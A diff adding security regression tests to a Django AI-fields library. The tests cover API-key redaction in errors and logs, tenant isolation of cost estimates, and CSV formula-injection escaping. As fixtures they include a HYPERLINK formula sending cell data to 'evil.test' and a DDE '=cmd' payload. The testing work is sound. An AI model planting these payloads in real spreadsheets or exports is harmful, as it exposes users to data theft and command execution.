@@ -6,6 +6,7 @@ from __future__ import annotations
 
 import json
 import threading
+from decimal import Decimal
 
 import pytest
 from cryptography.fernet import Fernet
@@ -14,7 +15,7 @@ from django.db import connection
 from django.test import Client
 
 from django_ai_fields import crypto
-from django_ai_fields.models import AIJob, AIUsage, ProviderBatch, ProviderCredential
+from django_ai_fields.models import AIJob, AIUsage, ProviderBatch, ProviderCredential, Quota
 from tests.surfaces import TENANT_FOR_USER, make_user
 from tests.testapp.models import Product
 
@@ -1005,3 +1006,233 @@ def test_the_job_admins_regenerate_refuses_rows_of_another_tenant(two_tenants, w
     )
     assert "belongs to another tenant" in response.content.decode()
     assert AIJob.objects.count() == 1
+# -- issue 23, findings 4, 8 and 10: keys in errors, estimates, exports ------------------------
+
+# Keys that look like no key: only knowing them (settings, the tenant's row) redacts them.
+OPERATOR_KEY = "operator-secret-value-4711"
+TENANT_KEY = "acme-credential-value-2024"
+# Keys of nobody here, in the shapes providers use.
+STRANGE_KEYS = (
+    "sk-ant-api03-" + "Qx7" * 14,
+    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0In0.c2lnbmF0dXJl",
+    "Zq81Kd02Lm77Pw4Tx9Vb3Nc6Hy5Rj0Fs1Ga2",
+    "0123456789abcdef0123456789abcdef",
+)
+PATHS = ("chat", "anthropic", "responses")
+
+
+def operator_keys_everywhere(settings, fake_provider, path):
+    """The operator's keys set to values shaped like no key; ``path``'s provider the default."""
+    providers = {
+        name: {**entry, "API_KEY": f"{OPERATOR_KEY}-{name}"}
+        for name, entry in settings.AI_FIELDS["PROVIDERS"].items()
+    }
+    values = {"PROVIDERS": providers, "MAX_ATTEMPTS": 1}
+    if path == "anthropic":
+        values.update(DEFAULT_PROVIDER="anthropic", DEFAULT_MODEL="claude-haiku-4-5")
+    if path == "responses":
+        providers["openai"]["API"] = "responses"
+    settings.AI_FIELDS = {**settings.AI_FIELDS, **values}
+    return providers
+
+
+def key_quoting_error(key: str) -> str:
+    return f"Incorrect API key provided: {key}. Others seen: {', '.join(STRANGE_KEYS)}."
+
+
+def assert_no_key(text: str, *keys: str) -> None:
+    for key in (*keys, *STRANGE_KEYS):
+        assert key not in text
+    assert OPERATOR_KEY not in text
+
+
+@pytest.mark.parametrize("path", PATHS)
+def test_a_401_quoting_the_operator_key_is_stored_and_logged_redacted(
+    two_tenants, settings, worker, caplog, path
+):
+    operator_keys_everywhere(settings, two_tenants, path)
+    provider = "anthropic" if path == "anthropic" else "openai"
+    key = f"{OPERATOR_KEY}-{provider}"
+    two_tenants.enqueue_fault(status=401, message=key_quoting_error(key))
+    with caplog.at_level("INFO", logger="django_ai_fields"):
+        Product.objects.create(shop="acme", title="Anvil", price=10)
+        worker.drain()
+    job = AIJob.objects.get()
+    assert (job.status, job.error_code) == ("failed", "auth")
+    assert "HTTP 401" in job.error and "Incorrect API key provided: [redacted]" in job.error
+    assert_no_key(job.error, key)
+    assert_no_key(caplog.text, key)
+    viewer = Client()
+    viewer.force_login(make_user("acme-ann", "django_ai_fields.view_aijob"))
+    detail = viewer.get(f"/ai/jobs/{job.pk}/")
+    assert detail.status_code == 200
+    assert_no_key(detail.content.decode(), key)
+
+
+def test_a_401_quoting_the_tenant_key_is_stored_redacted(two_tenants, settings, worker):
+    settings.AI_FIELDS = {**settings.AI_FIELDS, "MAX_ATTEMPTS": 1}
+    ProviderCredential.objects.create(
+        tenant="acme", provider="openai", api_key=TENANT_KEY, base_url=two_tenants.openai_base_url
+    )
+    two_tenants.enqueue_fault(status=401, message=key_quoting_error(TENANT_KEY))
+    Product.objects.create(shop="acme", title="Anvil", price=10)
+    worker.drain()
+    job = AIJob.objects.get()
+    assert job.error_code == "auth"
+    assert_no_key(job.error, TENANT_KEY)
+
+
+def test_a_key_quoted_in_the_middle_of_a_stream_is_redacted(fake_provider, settings, worker):
+    from tests.testapp.models import Story
+
+    operator_keys_everywhere(settings, fake_provider, "chat")
+    key = f"{OPERATOR_KEY}-openai"
+    fake_provider.reply_text = "Once upon a time there was a key."
+    fake_provider.enqueue_fault(stream_error=401, message=key_quoting_error(key))
+    Story.objects.create(title="Keys")
+    worker.drain()
+    job = AIJob.objects.get()
+    assert job.error_code == "auth"
+    assert_no_key(job.error, key)
+
+
+def test_a_logged_traceback_of_a_provider_error_shows_no_key(fake_provider, settings):
+    import traceback
+
+    from django_ai_fields.providers import CompletionRequest, ProviderError, build_provider
+
+    providers = operator_keys_everywhere(settings, fake_provider, "chat")
+    key = providers["openai"]["API_KEY"]
+    fake_provider.enqueue_fault(status=401, message=key_quoting_error(key))
+    request = CompletionRequest(system="", prompt="Hi", model="gpt-4o-mini", max_tokens=10)
+    with pytest.raises(ProviderError) as raised:
+        build_provider("openai", providers["openai"]).complete(request)
+    # What logger.exception() prints: the error and the SDK exception chained as its cause.
+    printed = "".join(traceback.format_exception(raised.value))
+    assert "openai.AuthenticationError" in printed
+    assert_no_key(printed, key)
+
+
+def test_ai_status_and_diagnostics_redact_a_key_the_model_list_quotes(fake_provider, settings):
+    from django_ai_fields.management.commands.ai_status import collect, render
+
+    providers = operator_keys_everywhere(settings, fake_provider, "chat")
+    keys = [entry["API_KEY"] for entry in providers.values()]
+    fake_provider.models_error = (401, key_quoting_error(" ".join(keys)))
+    report = collect(check_providers=True)
+    text = "\n".join(render(report))
+    assert "HTTP 401" in text
+    assert_no_key(text, *keys)
+    client = Client()
+    client.force_login(make_user("root", superuser=True))
+    diagnostics = client.get("/ai/diagnostics/")
+    assert diagnostics.status_code == 200
+    assert "HTTP 401" in diagnostics.content.decode()
+    assert_no_key(diagnostics.content.decode(), *keys)
+
+
+def usage_csv(client: Client, *columns: str) -> list[dict[str, str]]:
+    import csv
+    import io
+
+    data = {"format": "0", "resource": "0", **{f"aiusageresource_{c}": "on" for c in columns}}
+    response = client.post("/admin/django_ai_fields/aiusage/export/", data)
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+
+def test_the_usage_export_writes_formula_cells_as_text(two_tenants, worker):
+    claimed = '=HYPERLINK("https://evil.test/?"&A1,"Open")'
+    two_tenants.reply_model = claimed
+    Product.objects.create(shop="@acme", title="Anvil", price=10)
+    Product.objects.create(shop="+globex", title="Globe", price=20)
+    worker.drain()
+    root = Client()
+    root.force_login(make_user("root", superuser=True))
+    rows = usage_csv(root, "tenant", "model", "reported_model", "input_tokens")
+    assert sorted(row["tenant"] for row in rows) == ["'+globex", "'@acme"]
+    assert {row["reported_model"] for row in rows} == {"'" + claimed}
+    assert {row["model"] for row in rows} == {"gpt-4o-mini"}
+    assert {row["input_tokens"] for row in rows} == {"11"}
+
+
+def test_usage_keeps_the_model_asked_for_beside_the_one_the_provider_claims(
+    two_tenants, worker
+):
+    two_tenants.reply_model = "gpt-5.5-pro-2099"  # a dearer model than the one asked for
+    Product.objects.create(shop="acme", title="Anvil", price=10)
+    worker.drain()
+    usage = AIUsage.objects.get()
+    assert (usage.model, usage.reported_model) == ("gpt-4o-mini", "gpt-5.5-pro-2099")
+    assert usage.cost_usd == Decimal("0.000006")  # priced as asked: 11 x 0.15 + 7 x 0.60
+    root = Client()
+    root.force_login(make_user("root", superuser=True))
+    html = root.get("/admin/django_ai_fields/aiusage/").content.decode()
+    assert "model (as reported)" in html.lower()
+    assert '<td class="field-model">gpt-4o-mini</td>' in html
+    assert '<td class="field-reported_model">gpt-5.5-pro-2099</td>' in html
+    job_page = root.get(f"/admin/django_ai_fields/aijob/{usage.job_id}/change/").content.decode()
+    assert "gpt-5.5-pro-2099" in job_page
+
+
+def test_a_quota_export_marks_formula_cells_and_imports_back_unchanged(settings):
+    from django.core.files.uploadedfile import SimpleUploadedFile
+
+    Quota.objects.create(tenant="=cmd|'/c calc'!A1", kind="requests", period="day", limit=5)
+    root = Client()
+    root.force_login(make_user("root", superuser=True))
+    fields = ["tenant", "kind", "period", "limit", "is_unlimited"]
+    data = {"format": "0", "resource": "0", **{f"quotaresource_{f}": "on" for f in fields}}
+    exported = root.post("/admin/django_ai_fields/quota/export/", data).content
+    assert exported.decode().splitlines()[1].startswith("'=cmd|'/c calc'!A1,requests,day")
+    Quota.objects.update(limit=1)
+    upload = {"format": "0", "resource": "0"}
+    upload["import_file"] = SimpleUploadedFile("quotas.csv", exported, "text/csv")
+    html = root.post("/admin/django_ai_fields/quota/import/", upload).content.decode()
+    import re
+
+    confirm = dict(re.findall(r'<input type="hidden" name="(\w+)" value="([^"]*)"', html))
+    root.post("/admin/django_ai_fields/quota/process_import/", confirm, follow=True)
+    assert list(Quota.objects.values_list("tenant", "limit")) == [("=cmd|'/c calc'!A1", 5)]
+
+
+def test_the_cost_estimate_never_shows_another_tenants_spending(fake_provider, settings):
+    from io import StringIO
+
+    from django.contrib.contenttypes.models import ContentType
+
+    from django_ai_fields.api import estimate
+    from tests.testapp.models import Lead
+
+    settings.AI_FIELDS = {
+        **settings.AI_FIELDS,
+        "TENANT_RESOLVER": "tests.testapp.tenancy.lead_tenant",
+        "TENANT_FOR_USER": TENANT_FOR_USER,
+    }
+    leads = [Lead.objects.create(name=f"L{i}", company="acme", notes="n") for i in range(2)]
+    AIJob.objects.update(status="succeeded")
+    past = AIJob.objects.create(
+        content_type=ContentType.objects.get_for_model(Lead), object_id="0", field_name="heat"
+    )
+    # globex spends $7.77 a call on this field; acme has no history.
+    AIUsage.objects.create(
+        tenant="globex", job=past, provider="openai", model="m", cost_usd=Decimal("7.77")
+    )
+    acme_rows = Lead.objects.filter(company="acme")
+    assert estimate(acme_rows, "heat").expected_usd is None
+    client = Client()
+    client.force_login(make_user("acme-ann", "testapp.change_lead", "testapp.view_lead"))
+    action = {"action": "regenerate_ai_field_heat", "_selected_action": [x.pk for x in leads]}
+    page = client.post("/admin/testapp/lead/", action).content.decode()
+    assert "This requests 2 AI jobs for 2 row(s)" in page
+    assert "Expected cost: unknown" in page and "15.54" not in page and "7.77" not in page
+
+    AIUsage.objects.create(
+        tenant="acme", job=past, provider="openai", model="m", cost_usd=Decimal("0.000040")
+    )
+    assert estimate(acme_rows, "heat").expected_usd == Decimal("0.000080")
+    Lead.objects.create(name="G", company="globex", notes="n")
+    out = StringIO()
+    call_command("ai_regenerate", "testapp.Lead", "--field", "heat", "--dry-run", stdout=out)
+    # Each tenant's jobs at its own average: 2 x $0.00004 (acme) + 1 x $7.77 (globex).
+    assert "Expected cost: $7.770080" in out.getvalue()
